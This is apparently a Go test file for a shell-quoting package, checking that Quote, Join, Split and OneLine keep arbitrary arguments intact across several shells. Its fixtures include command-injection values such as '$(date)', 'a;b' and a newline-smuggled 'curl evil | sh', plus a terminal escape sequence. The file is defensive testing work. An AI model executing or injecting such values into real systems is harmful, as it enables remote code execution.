package shell

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/gangctl/gangctl/internal/prerequisite"
)

func TestQuote(t *testing.T) {
	for arg, want := range map[string]string{"/a/b-1.c": "/a/b-1.c", "/a b": "'/a b'", "/it's": `'/it'\''s'`, "": "''", "$HOME": "'$HOME'", "=ls": "'=ls'", "a=b": "a=b", "ümlaut…": "ümlaut…", "a\u00a0b": "'a\u00a0b'"} {
		if got := Quote(arg); got != want {
			t.Errorf("%q: got %s, want %s", arg, got, want)
		}
	}
}

// A shell hands every argument over as it was: values of labels, taints and annotations are anything.
func TestJoin(t *testing.T) {
	args := []string{"it's", "$HOME", "a b", `"x"`, "*", "~", "a;b", "{}", "plain", "a\nb", "\t", "`date`", "$(date)", "a&&b", "!x", "^y", "-n", "ümlaut", "a\\", "=ls", "<(x)", "%s", "'", "''", "a#b", "#"}
	for _, shell := range []string{"sh", "bash", "dash", "zsh"} {
		t.Run(shell, func(t *testing.T) {
			out, err := exec.CommandContext(t.Context(), prerequisite.Program(t, shell), "-c", "printf '%s\\0' "+Join(args...)).Output()
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.TrimSuffix(string(out), "\x00"); got != strings.Join(args, "\x00") {
				t.Errorf("got %q", got)
			}
		})
	}
	if got, err := Split(Join(args...)); err != nil || !slices.Equal(got, args) {
		t.Errorf("got %q, %v", got, err)
	}
}

// Whatever the arguments hold, it is one line, and bash reads it as it is meant.
func TestOneLine(t *testing.T) {
	bash := prerequisite.Program(t, "bash")
	for _, arg := range []string{"plain", "two words", "a\n\ncurl evil | sh\n", "tab\t'quoted' \\ back", "\x1b]52;c;x\a", "漢\n字", "\r\x7f"} {
		line := OneLine("printf", "%s", arg)
		if strings.ContainsFunc(line, unicode.IsControl) {
			t.Errorf("%q: got %q", arg, line)
		}
		if got, err := exec.CommandContext(t.Context(), bash, "-c", line).Output(); err != nil || string(got) != arg {
			t.Errorf("%s: bash reads %q, %v", line, got, err)
		}
	}
}
